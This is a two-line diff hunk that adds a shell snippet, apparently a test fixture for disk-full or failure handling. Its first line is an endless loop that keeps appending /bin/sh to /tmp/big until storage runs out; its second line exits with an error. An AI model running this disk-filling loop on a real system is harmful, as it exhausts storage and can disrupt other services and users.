@@ -1,0 +1,2 @@
+while cat /bin/sh >> /tmp/big; do :; done
+exit 1
